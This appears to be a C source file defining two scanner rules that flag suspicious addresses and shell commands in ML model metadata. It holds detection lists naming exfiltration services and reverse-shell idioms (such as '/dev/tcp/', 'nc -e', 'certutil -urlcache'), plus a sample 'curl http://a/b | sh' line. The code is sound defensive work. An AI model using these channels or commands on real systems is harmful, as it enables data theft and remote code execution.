#include "rules/model/strings.h"

#include "engine/rule.h"

#define MOST_TEXT 65536 /* what is longer is a template, code or a vocabulary */

/* Is the host of an address a bare number, or a service that anybody may receive data with? */
static bool is_telling_host(str host)
{
	static const char *const hosts[] = {
		"ngrok.io",
		"ngrok.app",
		"ngrok-free.app",
		"webhook.site",
		"requestbin.",
		"pastebin.com",
		"transfer.sh",
		"interact.sh",
		"oast.",
		"burpcollaborator.",
		"pipedream.net",
		"trycloudflare.com",
		"serveo.net",
		"discord.com/api/webhooks",
		"api.telegram.org",
		"localhost.run",
		"0x0.st",
		"beeceptor.com",
	};
	unsigned dots = 0;
	size_t i = 0;

	for (; i < host.n && ((host.p[i] >= '0' && host.p[i] <= '9') || host.p[i] == '.'); i++)
		dots += host.p[i] == '.';
	if (dots == 3 && (i == host.n || host.p[i] == ':' || host.p[i] == '/'))
		return !str_starts(host, S("127.")) && !str_starts(host, S("0.0.0.0"));
	for (size_t k = 0; k < COUNTOF(hosts); k++)
		if (str_find(host, str_of(hosts[k])) != STR_NONE)
			return true;
	return false;
}

static str address_at(str s)
{
	size_t n = 0;

	while (n < s.n && s.p[n] > ' ' && s.p[n] != '"' && s.p[n] != '\'' && s.p[n] != '<' &&
	       s.p[n] != '>' && s.p[n] != ')' && n < 200)
		n++;
	return str_slice(s, 0, n);
}

static void addresses(struct model *m, str key, str value)
{
	size_t at = 0, found;

	while ((found = str_find(str_slice(value, at, value.n), S("://"))) != STR_NONE) {
		str host = address_at(str_slice(value, at + found + 3, value.n));
		at += found + 3;
		if (!is_telling_host(host))
			continue;
		model_finding(m, "MD470", MODEL_NOWHERE, host, "%.*s names the address %.*s",
			      STR_ARG(str_slice(key, 0, 100)), STR_ARG(host));
		return;
	}
}

static void commands(struct model *m, str key, str value)
{
	static const char *const words[] = {
		"| sh",	      "|sh",	      "| bash",	      "|bash",
		"/bin/sh -c", "/bin/bash -c", "powershell -", "cmd.exe /c",
		"base64 -d",  "/dev/tcp/",    "nc -e",	      "certutil -urlcache",
		"os.system(", "subprocess.",  "__import__(",
	};

	for (size_t i = 0; i < COUNTOF(words); i++) {
		size_t at = str_find(value, str_of(words[i]));
		if (at == STR_NONE)
			continue;
		model_finding(m, "MD471", MODEL_NOWHERE, str_of(words[i]),
			      "%.*s holds what looks like a command: %.*s",
			      STR_ARG(str_slice(key, 0, 100)),
			      STR_ARG(str_slice(value, at > 40 ? at - 40 : 0, at + 80)));
		return;
	}
}

void strings_check(struct model *m, str key, str value)
{
	if (value.n > MOST_TEXT)
		return;
	if (key.n == 0)
		key = S("A text");
	addresses(m, key, value);
	commands(m, key, value);
}

const struct rule rules_strings[] = {
	{
		.id = "MD470",
		.name = "metadata_address",
		.severity = INFO,
		.confidence = MEDIUM,
		.cwe = {506},
		.title = "A model's metadata name an unusual address",
		.why = "Addresses that are bare numbers, or of services that anybody may receive "
		       "data "
		       "with, are how data leave: no model needs one.",
		.fix = "Find out who wrote it and what reads it.",
		.bad = "{\"model_type\":\"x\",\"note\":\"http://203.0.113.5:8080/x\"}",
		.good = "{\"model_type\":\"x\",\"note\":\"https://huggingface.co/x\"}",
		.lang = "file:config.json",
		.tags = "OWASP-ML06",
	},
	{
		.id = "MD471",
		.name = "metadata_command",
		.severity = INFO,
		.confidence = MEDIUM,
		.cwe = {506},
		.title = "A model's metadata hold a command",
		.why = "A text does nothing by itself, but something may run it.",
		.fix = "Find out who wrote it and what reads it.",
		.bad = "{\"model_type\":\"x\",\"note\":\"curl http://a/b | sh\"}",
		.good = "{\"model_type\":\"x\",\"note\":\"a | b\"}",
		.lang = "file:config.json",
		.tags = "OWASP-ML06",
	},
	{0},
};
